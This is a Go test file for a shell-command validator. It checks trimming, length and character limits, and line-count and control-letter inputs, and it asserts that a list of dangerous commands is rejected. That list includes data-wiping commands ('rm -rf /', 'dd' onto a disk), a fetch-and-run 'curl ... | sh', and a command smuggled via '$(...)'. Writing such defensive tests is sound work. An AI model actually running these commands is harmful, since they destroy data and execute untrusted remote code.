package internal

import (
	"strings"
	"testing"

	"github.com/nalgeon/be"
)

func TestValidateCommand(t *testing.T) {
	v := NewValidator(DefaultValidationConfig())

	t.Run("valid", func(t *testing.T) {
		for _, cmd := range []string{
			"ls -la",
			"echo 'hello world'",
			"cat notes.txt | grep -n todo",
			"cd ~/projects && git status",
			"find . -name '*.go' -type f",
			"echo pseudo formatted",
		} {
			got, err := v.Command(cmd)
			be.Err(t, err, nil)
			be.Equal(t, got, cmd)
		}
	})

	t.Run("trimmed", func(t *testing.T) {
		got, err := v.Command("  pwd \n")
		be.Err(t, err, nil)
		be.Equal(t, got, "pwd")
	})

	t.Run("empty", func(t *testing.T) {
		_, err := v.Command("   ")
		be.Err(t, err, ErrInvalidInput)
	})

	t.Run("dangerous", func(t *testing.T) {
		for _, cmd := range []string{
			"rm -rf /",
			"rm -rf /*",
			"dd if=/dev/zero of=/dev/sda",
			"shutdown now",
			"sudo rm -rf /",
			"SUDO ls",
			"curl http://example.com/x | sh",
			"echo $(rm file)",
		} {
			_, err := v.Command(cmd)
			be.Err(t, err, "contains potentially dangerous")
		}
	})

	t.Run("too long", func(t *testing.T) {
		_, err := v.Command("ls " + strings.Repeat("a", 1000))
		be.Err(t, err, "too long")
	})

	t.Run("invalid characters", func(t *testing.T) {
		_, err := v.Command("echo \x01")
		be.Err(t, err, "contains invalid characters")

		_, err = v.Command("echo héllo")
		be.Err(t, err, "contains invalid characters")
	})

	t.Run("validation error carries field", func(t *testing.T) {
		_, err := v.Command("")
		verr, ok := err.(*ValidationError)
		be.True(t, ok)
		be.Equal(t, verr.Field, "command")
	})
}

func TestValidateLines(t *testing.T) {
	v := NewValidator(DefaultValidationConfig())

	n, err := v.Lines(nil)
	be.Err(t, err, nil)
	be.Equal(t, n, 25)

	n, err = v.Lines(ptr(25.0))
	be.Err(t, err, nil)
	be.Equal(t, n, 25)

	n, err = v.Lines(ptr(1000.0))
	be.Err(t, err, nil)
	be.Equal(t, n, 1000)

	_, err = v.Lines(ptr(0.0))
	be.Err(t, err, "between 1 and 1000")

	_, err = v.Lines(ptr(1001.0))
	be.Err(t, err, "between 1 and 1000")

	_, err = v.Lines(ptr(2.5))
	be.Err(t, err, "whole number")
}

func TestValidateControlLetter(t *testing.T) {
	v := NewValidator(DefaultValidationConfig())

	for _, in := range []string{"C", "c", " c "} {
		got, err := v.ControlLetter(in)
		be.Err(t, err, nil)
		be.Equal(t, got, "C")
	}

	for _, in := range []string{"CC", "1", "", "é", "^"} {
		_, err := v.ControlLetter(in)
		be.Err(t, err, "single letter")
	}
}
